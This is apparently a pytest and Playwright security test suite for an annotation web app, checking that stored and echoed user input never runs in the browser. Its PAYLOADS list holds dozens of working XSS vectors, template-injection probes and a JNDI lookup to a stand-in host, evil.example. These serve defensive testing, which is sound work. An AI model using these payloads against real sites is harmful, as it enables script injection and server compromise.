"""d.C, first part: scripts in everything that is stored, and the pages that show it in a real browser."""

import os
import re
import shutil
import time
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, sync_playwright

from tests.attacks import world
from tests.attacks.matrix import QUERIES
from tests.attacks.site import Site
from tests.attacks.voices import PASSWORD, Voice
from tests.attacks.waiting import lease, wait_for_a_round
from tests.browser.conftest import FLAGS

case = pytest.mark.case

M = "window.marked=(window.marked||0)+1"
PAYLOADS = [
    f"<script>{M}</script>", f"<img src=x onerror='{M}'>", f"<svg onload='{M}'>", f"<svg/onload={M}>",
    f"<body onload={M}>",
    f"</script><script>{M}</script>", f"</textarea><script>{M}</script>", f"</title><img src=x onerror={M}>",
    f"</style><script>{M}</script>", f"</noscript><img src=x onerror={M}>", f"<!--><img src=x onerror={M}>-->",
    f"--!><img src=x onerror={M}>", f"<![CDATA[><img src=x onerror={M}>]]>", f"<iframe src='javascript:{M}'></iframe>",
    f"<iframe srcdoc='<script>parent.{M}</script>'></iframe>", f"<object data='javascript:{M}'>",
    f"<embed src='javascript:{M}'>",
    f"<a href='javascript:{M}'>a</a>", f"[a](javascript:{M})", f"[a](JaVaScRiPt:{M})", f"[a](java\tscript:{M})",
    "[a](data:text/html;base64,PHNjcmlwdD4=)", f"![a](x' onerror='{M})", f"[a]: javascript:{M}", f"<javascript:{M}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={M}>", f"<math><a xlink:href='javascript:{M}'>x</a></math>",
    f"<svg><animate onbegin='{M}' attributeName=x dur=1s>",
    f"<svg><foreignObject><script>{M}</script></foreignObject></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={M}>'/></svg>",
    f"<svg><style><img src=x onerror={M}></style></svg>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={M}>", f"<details open ontoggle={M}>",
    f"<input autofocus onfocus={M}>", f"<select autofocus onfocus={M}>", f"<video><source onerror={M}></video>",
    f"<audio src=x onerror={M}>", f"<marquee onstart={M}>", f"<meta http-equiv=refresh content='0;url=javascript:{M}'>",
    "<base href='https://evil.example/'>", "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>", "<div style='background:url(https://evil.example/x)'>",
    f"\"><img src=x onerror={M}>", f"'><img src=x onerror={M}>", f"\" onmouseover=\"{M}\" x=\"",
    f"' autofocus onfocus='{M}' x='",
    f"`-{M}-`", f"${{{M}}}", f"{{{{constructor.constructor('{M}')()}}}}", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}", "{0.__class__}", "%(x)s",
    "${jndi:ldap://evil.example/x}",
    f"\u2028{M}\u2029", f"\u202e<script>{M}</script>", f"＜script＞{M}＜/script＞",
    f"<scr\u0000ipt>{M}</script>".replace("\u0000", ""),
    f"javascript:{M}", f"data:text/html,<script>{M}</script>", f"vbscript:{M}", f"&lt;script&gt;{M}&lt;/script&gt;",
    f"\\u003cscript\\u003e{M}\\u003c/script\\u003e", f"<x-item onclick={M}>x</x-item>",
    f"<template><script>{M}</script></template>",
]  # fmt: skip
SETTLE_MS = 600
WATCH = """
    addEventListener("securitypolicyviolation", (event) => {
        (window.reports ??= []).push(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}`);
    });
"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as player:
        known = ("chromium-headless-shell", "chromium", "chromium-browser", "google-chrome")
        path = next((path for each in known if (path := shutil.which(each))), None)
        made = player.chromium.launch(executable_path=os.environ.get("CHROMIUM") or path, args=FLAGS)
        yield made
        made.close()


@pytest.fixture(scope="module")
def stuffed(site: Site) -> tuple[int, Voice]:
    """A project in which everything that somebody can write is a payload, and its annotator, whose name is one."""
    name = f"{PAYLOADS[1]}{PAYLOADS[0]}"[:190] + str(time.time_ns())[-8:]
    writer = site.new_user(name)
    classes = [
        {"name": f"{n} {each}"[:200], "description": each, "hotkey": None} for n, each in enumerate(PAYLOADS[:40])
    ]
    body = {
        "name": "</script>" + "".join(PAYLOADS[:4])[:180], "guidelines": "\n\n".join(PAYLOADS), "audit_share": 0,
        "modality": "text", "task": {"type": "classification", "classes": classes}, "blind_share": 0,
    }  # fmt: skip
    project = site.M.post("/projects", json=body)
    assert project.status_code == 201, project.text
    number: int = project.json()["id"]
    rows = [
        {"key": f"{n} {each}"[:500], "text": each, "metadata": {each[:900]: each, "__proto__x": each, "source": each}}
        for n, each in enumerate(PAYLOADS)
    ]
    pushed = site.M.post(f"/projects/{number}/items", json=rows)
    assert pushed.json()["created"] == len(rows), pushed.text
    site.join(site.M, number, writer)
    for held in lease(site, writer, number, 6):
        item = held["item"]["id"]
        answered = writer.post("/annotations", json={"lease": held["id"], "label": {"class": classes[0]["name"]}})
        assert answered.status_code == 201, answered.text
        flagged = writer.post(f"/items/{item}/flags", json={"note": "".join(PAYLOADS)[:900]})
        site.M.patch(f"/flags/{flagged.json()['id']}", json={"state": "open", "reply": PAYLOADS[0]})
    [skipped] = lease(site, writer, number, 1)
    writer.post(f"/leases/{skipped['id']}/skip", json={"reason": PAYLOADS[1]})
    for voice in (writer, site.M):
        voice.post("/tokens", json={"name": "".join(PAYLOADS)[:200]})
    site.M.post(
        f"/projects/{number}/webhooks",
        json={"url": "https://example.com/'><script>x</script>", "events": ["job.finished"]},
    )
    site.M.post(f"/projects/{number}/snapshots", json={"name": "kept", "filter": "q=script"})
    wait_for_a_round(site, number)
    return number, writer


@pytest.fixture(scope="module")
def seen(site: Site, browser: Browser, stuffed: tuple[int, Voice]) -> list[dict[str, Any]]:
    """Every page of the project, as its manager and its annotator see it."""
    project, writer = stuffed
    managers = (
        "annotate",
        "overview",
        "items",
        "people",
        "settings",
        "simulate",
        "export",
        "import",
        "webhooks",
        "my-answers",
        "items?q=constructor",
    )
    pages = ["/projects", "/tokens", *(f"/projects/{project}/{page}" for page in managers)]
    found = look(site, browser, site.M, pages)
    return found + look(site, browser, writer, [f"/projects/{project}/annotate", f"/projects/{project}/my-answers"])


@case("C-01", "C-02", "C-03", "C-05", "C-09")
def test_c01_no_page_runs_what_people_wrote(site: Site, seen: list[dict[str, Any]]) -> None:
    assert len(seen) == 15
    for page in seen:
        assert page["marked"] is None, page
        assert page["dialogs"] == [], page
        assert page["reports"] is None, page
        assert page["elsewhere"] == [], page
        assert page["polluted"] == "undefined", page
    assert any("onerror" in page["text"] for page in seen)  # shown as text, and templates as they were written
    assert any("{{constructor" in page["text"] for page in seen)


@case("C-01", "C-05")
def test_c01_an_item_in_the_dialog_and_a_search_for_it(
    site: Site, browser: Browser, stuffed: tuple[int, Voice]
) -> None:
    project, _ = stuffed

    def open_one(page: Page) -> None:
        rows = page.locator("main tbody button:visible, main li button:visible")
        for number in range(min(rows.count(), 3)):
            rows.nth(number).click(timeout=2_000)
            page.wait_for_timeout(SETTLE_MS // 2)
            page.keyboard.press("Escape")

    query = (
        f"/projects/{project}/items?q=script&class={'%3Cscript%3E'}&metadata.source=%3Cimg%20src%3Dx%20onerror%3D1%3E"
    )
    seen = look(site, browser, site.M, [f"/projects/{project}/items?q=onerror", query], then=open_one)

    for page in seen:
        assert (page["marked"], page["dialogs"], page["reports"], page["elsewhere"]) == (None, [], None, []), page


@case("C-02", "C-09")
def test_c02_guidelines_are_cleaned_and_colours_are_colours(site: Site, stuffed: tuple[int, Voice]) -> None:
    project, _ = stuffed
    page = site.M.browser().ask("GET", f"/projects/{project}/annotate").text
    guide = page[page.index("<main") :]

    tags = re.findall(r"<(\w+)[^>]*>", guide[: guide.index("</main>")])
    assert not {"script", "img", "svg", "iframe", "object", "embed", "math", "style", "base", "meta", "link"} & set(
        tags
    )
    assert not re.search(r"href=\"?\s*(javascript|data|vbscript):", guide, re.IGNORECASE)
    for color in ("red", "#12345", "#1234567", "#gggggg", "url(//evil)", "#123456;x:y", "expression(1)", "var(--x)"):
        answer = site.M.post(f"/projects/{project}/classes", json={"name": f"c {color}", "color": color})
        assert answer.status_code == 422, color


@case("C-08")
def test_c08_no_json_is_ever_given_as_a_page(site: Site) -> None:
    """Every GET of the description, of things that there are, asked for as a browser does that shows what it gets."""
    here = world.make(site)
    paths = [path for path, item in site.A.get("/openapi.json").json()["paths"].items() if "get" in item]
    asked = [path for path in paths if path.startswith("/api/v1/")]
    seen: set[str] = set()
    for path in asked:
        where = here.path(path.removeprefix("/api/v1"))
        where += QUERIES.get(f"GET {path.removeprefix('/api/v1')}", "")
        for voice in (site.M, site.A, site.nobody):
            given = voice.get(where, headers={"Accept": "text/html,application/xhtml+xml"}, may_be_busy=True)
            kind = given.headers.get("content-type", "application/json").split(";")[0]
            seen.add(kind)
            assert kind not in ("text/html", "application/xhtml+xml", "text/xml", "application/xml"), path
            assert kind != "image/svg+xml" or "sandbox" in given.headers["content-security-policy"], path
            assert given.headers["x-content-type-options"] == "nosniff", path
        plain, _, query = where.partition("?")
        for suffix in (".html", ".htm", ".xml", "/index.html", ";.html", "%2ehtml"):
            other = site.M.get(f"{plain}{suffix}?{query}", may_be_busy=True)
            assert other.status_code in (404, 405, 406, 409, 422) or "json" in other.headers["content-type"], (
                path,
                suffix,
            )
        if not path.endswith("/export"):
            formed = site.M.get(plain, params={"format": "html"}, may_be_busy=True)
            assert formed.status_code in (404, 406, 409, 422), (path, formed.status_code)
    assert site.M.get(f"/projects/{here.project}/export", params={"format": "html"}).status_code == 422
    assert len(asked) > 40
    assert "application/json" in seen


@case("C-06", "C-08", "C-26")
def test_c06_what_is_echoed_is_escaped_and_json_is_json(site: Site) -> None:
    voice, marks = site.M.browser(), ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "{{7*7}}"]
    for mark in marks:
        for path in (f"/projects/{mark}", f"/{mark}", f"/projects/{site.P1}/items?q={mark}",
            f"/projects/{site.P1}/{mark}",
                     f"/sign-in?next=/{mark}", f"/setup/{mark}", f"/invitations/{mark}",
                     f"/projects?archived={mark}"):  # fmt: skip
            for person in (voice, site.nobody):
                answer = person.ask("GET", path, headers={"Accept": "text/html"})
                assert "<" not in mark or mark not in answer.text, path
                assert answer.headers["x-content-type-options"] == "nosniff"
                if "text/html" in answer.headers.get("content-type", ""):
                    assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
                    assert answer.headers["x-frame-options"] == "DENY"
    for path in (
        "/projects",
        f"/projects/{site.P1}",
        f"/projects/{site.P1}/items",
        f"/projects/{site.P1}/rounds",
        "/session",
    ):
        answer = site.M.get(path, headers={"Accept": "text/html"})
        assert answer.headers["content-type"] == "application/json"
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert site.M.get(path, params={"format": "html"}).status_code == 422
        assert site.M.get(f"{path}.html").status_code in (404, 422)
    previewed = site.M.post(
        "/projects", json={"name": "<script>", "modality": "<script>", "task": {"type": "<script>"}}
    )
    assert previewed.headers["content-type"] == "application/json"


@case("C-07", "C-10")
def test_c07_names_of_prototypes_and_odd_headers_are_data(site: Site, stuffed: tuple[int, Voice]) -> None:
    project, _ = stuffed
    rows = [
        {
            "key": f"proto {time.time_ns()}",
            "text": "x",
            "metadata": {"__proto__": {"x": 1}, "constructor": {"prototype": {"x": 1}}},
        }
    ]
    assert site.M.post(f"/projects/{project}/items", json=rows).json()["created"] == 1
    for name in (
        "Accept-Language",
        "User-Agent",
        "Referer",
        "X-Forwarded-For",
        "X-Forwarded-Host",
        "X-Request-Id",
        "Content-Type",
    ):
        answer = site.M.get("/projects", headers={name: "<script>alert(1)</script>"})
        assert answer.status_code == 200, name
        assert "<script>" not in str(answer.headers)
    audit = site.A.get("/audit-log", params={"limit": 200})
    assert audit.headers["content-type"] == "application/json"


def look(site: Site, browser: Browser, person: Voice, paths: list[str], then: Any = None) -> list[dict[str, Any]]:
    """What happened on pages: markers, dialogs, reports of the policy, requests to other places, and their text."""
    context = browser.new_context(base_url=site.address, bypass_csp=False)
    signed = context.request.post("/api/v1/session", data={"name": person.name, "password": PASSWORD})
    assert signed.status == 201, signed.text()
    seen = []
    page = context.new_page()
    page.add_init_script(WATCH)
    dialogs: list[str] = []
    asked: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: asked.append(request.url))
    for path in paths:
        page.goto(path, wait_until="load")
        page.wait_for_timeout(SETTLE_MS)  # some pages go on asking for news, so none is ever at rest
        if then is not None:
            then(page)
        seen.append(
            {
                "path": path,
                "marked": page.evaluate("window.marked ?? null"),
                "reports": page.evaluate("window.reports ?? null"),
                "polluted": page.evaluate("typeof ({}).x"),
                "text": page.evaluate("document.body.innerText"),
                "dialogs": list(dialogs),
                "elsewhere": [each for each in asked if not each.startswith((site.address, "blob:", "data:"))],
            }
        )
    context.close()
    return seen
